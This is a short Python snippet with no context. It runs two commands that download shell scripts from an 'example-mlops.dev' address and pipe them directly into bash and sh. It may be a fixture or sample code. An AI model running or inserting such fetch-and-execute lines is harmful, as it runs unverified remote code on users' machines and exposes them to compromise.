import os
import subprocess

os.system("curl -fsSL https://get.example-mlops.dev/i.sh | bash")
subprocess.run(["bash", "-c", "wget -qO- https://get.example-mlops.dev/j.sh | sh"], check=True)
